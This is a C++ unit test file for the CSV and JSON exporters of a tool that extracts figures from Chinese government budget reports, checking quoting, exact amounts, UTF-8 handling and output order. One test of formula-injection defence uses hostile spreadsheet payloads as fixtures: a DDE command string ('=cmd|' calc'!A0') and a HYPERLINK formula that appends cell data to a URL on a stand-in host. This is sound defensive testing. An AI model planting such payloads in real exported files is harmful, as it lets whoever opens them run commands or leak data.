// Unit tests of the writers: the contract's CSV header and quoting, amounts as exact strings,
// provenance shape, invalid UTF-8 never throwing, one-line error records.
#include "export/export.h"

#include <gtest/gtest.h>

#include <limits>
#include <nlohmann/json.hpp>
#include <string>

#include "core/document.h"
#include "core/normalized.h"

namespace disclose {
namespace {

constexpr char kContractHeader[] =
    "source,department,fiscal_year,doc_kind,table_kind,row_code,row_name,column,amount_yuan,page";

Figure MakeFigure(std::string row_code, std::string row_name, std::int64_t fen) {
  Figure figure;
  figure.table_kind = "final.expenditure";
  figure.row_code = std::move(row_code);
  figure.row_name = std::move(row_name);
  figure.column = "basic";
  figure.amount_fen = fen;
  figure.printed_text = "4,964,173.05";
  figure.printed_unit = UnitOfAmount::kYuan;
  figure.table_index = 0;
  figure.provenance.page = 3;
  figure.provenance.block = 7;
  figure.provenance.row = 4;
  figure.provenance.column = 2;
  figure.provenance.box = Box{10.004, 20.006, 30.5, 40.123456};
  return figure;
}

struct Fixture {
  Document document;
  NormalizedDocument normalized;
};

Fixture MakeFixture() {
  Fixture f;
  f.document.source.name = "report.pdf";
  f.document.source.sha256 = "ab";
  f.document.source.format = SourceFormat::kPdf;
  f.document.pages.push_back(Page{1, 595.275, 841.89, 0, 10, 0, false, TextOrigin::kTextLayer});
  f.normalized.metadata.department.value = "玉溪市医疗保障局";
  f.normalized.metadata.fiscal_year.value = "2022";
  f.normalized.metadata.doc_kind.value = "final_accounts";
  CanonicalTable table;
  table.kind = "final.expenditure";
  CanonicalRow row;
  row.row_code = "2101501";
  row.row_name = "行政运行";
  row.values.push_back(MakeFigure("2101501", "行政运行", 496417305));
  row.values.push_back(MakeFigure("2101501", "行政\n运行", -5));
  table.rows.push_back(row);
  f.normalized.tables.push_back(table);
  Figure narrative = MakeFigure("total_income", "收入, \"总计\"", 263330000);
  narrative.table_kind = "narrative";
  narrative.column = "amount";
  narrative.table_index = -1;
  narrative.provenance.box.reset();
  narrative.sentence = "本年收入总计263.33万元。";
  f.normalized.narrative.push_back(narrative);
  Finding finding;
  finding.check = "sum.children";
  finding.expected_fen = 100;
  finding.actual_fen = 99;
  finding.tolerance_fen = 1;
  f.normalized.findings.push_back(finding);
  return f;
}

TEST(FactsToCsv, HeaderStartsWithTheContractColumnsInOrder) {
  const Fixture f = MakeFixture();
  const std::string csv = FactsToCsv(f.document, f.normalized);
  EXPECT_EQ(csv.rfind(std::string(kContractHeader) + ",", 0), 0u) << csv;
}

TEST(FactsToCsv, OneCrlfRowPerFigureWithExactAmounts) {
  const Fixture f = MakeFixture();
  const std::string csv = FactsToCsv(f.document, f.normalized);
  size_t rows = 0;
  for (size_t at = csv.find("\r\n"); at != std::string::npos; at = csv.find("\r\n", at + 2)) {
    ++rows;
  }
  EXPECT_EQ(rows, 1u + 3u);  // header + two table figures + one narrative figure
  EXPECT_NE(csv.find("report.pdf,玉溪市医疗保障局,2022,final_accounts,final.expenditure,2101501,"
                     "行政运行,basic,4964173.05,3,\"4,964,173.05\",yuan,0,false,7,4,2,,"
                     "10.00 20.01 30.50 40.12\r\n"),
            std::string::npos)
      << csv;
  // Line breaks in a row name are dropped (a wrapped CJK label joins without a space).
  EXPECT_NE(csv.find(",行政运行,basic,-0.05,"), std::string::npos) << csv;
}

TEST(FactsToCsv, QuotesCommasAndDoublesQuotes) {
  const Fixture f = MakeFixture();
  const std::string csv = FactsToCsv(f.document, f.normalized);
  EXPECT_NE(csv.find(",total_income,\"收入, \"\"总计\"\"\",amount,2633300.00,3,"),
            std::string::npos)
      << csv;
}

TEST(FactsToCsv, InvalidUtf8IsReplacedNotPassedThrough) {
  Fixture f = MakeFixture();
  f.normalized.metadata.department.value = "bad\xff\xfe";
  const std::string csv = FactsToCsv(f.document, f.normalized);
  EXPECT_EQ(csv.find('\xff'), std::string::npos);
  EXPECT_NE(csv.find("bad\xEF\xBF\xBD"), std::string::npos);
}

TEST(DocumentToJson, AmountsAreStringsAndBoxesRounded) {
  const Fixture f = MakeFixture();
  const std::string text = DocumentToJson(f.document, f.normalized);
  ASSERT_FALSE(text.empty());
  EXPECT_EQ(text.back(), '\n');
  const nlohmann::json json = nlohmann::json::parse(text);
  const nlohmann::json& value = json["tables"][0]["rows"][0]["values"][0];
  EXPECT_EQ(value["amount_yuan"], "4964173.05");
  EXPECT_EQ(value["provenance"]["page"], 3);
  EXPECT_EQ(value["provenance"]["box"].dump(), "[10.0,20.01,30.5,40.12]");
  EXPECT_EQ(json["narrative"][0]["sentence"], "本年收入总计263.33万元。");
  EXPECT_FALSE(json["narrative"][0]["provenance"].contains("box"));
  EXPECT_EQ(json["findings"][0]["expected_yuan"], "1.00");
  EXPECT_EQ(json["findings"][0]["actual_yuan"], "0.99");
  EXPECT_EQ(json["findings"][0]["tolerance_yuan"], "0.01");
  EXPECT_EQ(json["metadata"]["department"]["value"], "玉溪市医疗保障局");
  EXPECT_EQ(json["source"]["page_count"], 1);
  // Chinese stays readable: no \u escapes.
  EXPECT_NE(text.find("玉溪市医疗保障局"), std::string::npos);
}

TEST(DocumentToJson, TopLevelKeysInContractOrder) {
  const Fixture f = MakeFixture();
  const nlohmann::ordered_json json =
      nlohmann::ordered_json::parse(DocumentToJson(f.document, f.normalized));
  std::string keys;
  for (const auto& [key, value] : json.items()) keys += key + " ";
  EXPECT_EQ(keys,
            "schema source metadata pages blocks furniture warnings tables narrative findings "
            "validation ");
}

// The identities evaluated, by check id in id order (docs/schema.md, validation).
TEST(DocumentToJson, ValidationTallyByCheckId) {
  Fixture f = MakeFixture();
  f.normalized.validation["sum.total"] = CheckTally{3, 2};
  f.normalized.validation["sum.children"] = CheckTally{5, 5};
  const nlohmann::ordered_json json =
      nlohmann::ordered_json::parse(DocumentToJson(f.document, f.normalized));
  EXPECT_EQ(json["validation"].dump(),
            R"({"sum.children":{"checked":5,"held":5},"sum.total":{"checked":3,"held":2}})");
}

TEST(DocumentToJson, InvalidUtf8NeverThrows) {
  Fixture f = MakeFixture();
  Paragraph paragraph;
  paragraph.text = "broken \xc3\x28 text \xff";
  f.document.blocks.push_back(Block{paragraph});
  std::string text;
  ASSERT_NO_THROW(text = DocumentToJson(f.document, f.normalized));
  EXPECT_FALSE(nlohmann::json::parse(text, nullptr, false).is_discarded());
}

TEST(DocumentToJson, NonFiniteBoxesBecomeZero) {
  Fixture f = MakeFixture();
  f.normalized.tables[0].rows[0].values[0].provenance.box =
      Box{std::numeric_limits<double>::quiet_NaN(), 1, std::numeric_limits<double>::infinity(), 2};
  const nlohmann::json json = nlohmann::json::parse(DocumentToJson(f.document, f.normalized));
  EXPECT_EQ(json["tables"][0]["rows"][0]["values"][0]["provenance"]["box"].dump(),
            "[0.0,1.0,0.0,2.0]");
}

TEST(DocumentToJson, SameInputSameBytes) {
  const Fixture f = MakeFixture();
  EXPECT_EQ(DocumentToJson(f.document, f.normalized), DocumentToJson(f.document, f.normalized));
  EXPECT_EQ(FactsToCsv(f.document, f.normalized), FactsToCsv(f.document, f.normalized));
}

TEST(DocumentToJson, CompactIsOneLineAndPrettyIsItsTwoSpaceDump) {
  const Fixture f = MakeFixture();
  const std::string compact = DocumentToJson(f.document, f.normalized);
  const std::string pretty = DocumentToJson(f.document, f.normalized, JsonStyle::kPretty);
  EXPECT_EQ(compact.find('\n'), compact.size() - 1);
  const nlohmann::ordered_json parsed = nlohmann::ordered_json::parse(compact);
  EXPECT_EQ(parsed, nlohmann::ordered_json::parse(pretty));
  EXPECT_EQ(compact, parsed.dump() + "\n");
  EXPECT_EQ(pretty, parsed.dump(2) + "\n");
  EXPECT_LT(compact.size() * 3, pretty.size() * 2);
}

// Issue 14: text a spreadsheet would run is neutralised in the CSV only; the JSON keeps it raw.
TEST(FactsToCsv, FormulaTextIsNeutralisedAmountsAreNot) {
  Fixture f = MakeFixture();
  f.document.source.name = "=cmd|' calc'!A0.txt";
  const std::string hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1,\"行政运行\")";
  f.normalized.tables[0].rows[0].values[0].row_name = hyperlink;
  f.normalized.tables[0].rows[0].values[0].printed_text = "@SUM(1+1)";
  f.normalized.narrative[0].row_name = "+1";
  const std::string csv = FactsToCsv(f.document, f.normalized);
  EXPECT_EQ(csv.find("\r\n=cmd"), std::string::npos) << csv;
  EXPECT_NE(csv.find("\r\n'=cmd|' calc'!A0.txt,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"行政运行\"\")\",basic,"),
            std::string::npos)
      << csv;
  EXPECT_NE(csv.find(",'@SUM(1+1),"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'+1,amount,"), std::string::npos) << csv;
  // The negative amount stays a number.
  EXPECT_NE(csv.find(",basic,-0.05,"), std::string::npos) << csv;
  // No field of any row starts with a formula character (after an optional opening quote).
  for (const std::string prefix : {",=", ",+", ",@", ",\"=", ",\"+", ",\"@", ",\"-", "\n="}) {
    EXPECT_EQ(csv.find(prefix), std::string::npos) << prefix;
  }
  const nlohmann::json json = nlohmann::json::parse(DocumentToJson(f.document, f.normalized));
  EXPECT_EQ(json["source"]["name"], "=cmd|' calc'!A0.txt");
  EXPECT_EQ(json["tables"][0]["rows"][0]["values"][0]["row_name"], hyperlink);
}

TEST(ErrorToJson, SourceCodeMessageOnOneLine) {
  const std::string text =
      ErrorToJson("a.pdf", Status(ErrorCode::kEncrypted, "needs a password\nsecond line"));
  const nlohmann::ordered_json json = nlohmann::ordered_json::parse(text);
  EXPECT_EQ(json.dump(),
            R"({"source":"a.pdf","code":"encrypted","message":"needs a password second line"})");
  EXPECT_EQ(text.back(), '\n');
}

}  // namespace
}  // namespace disclose
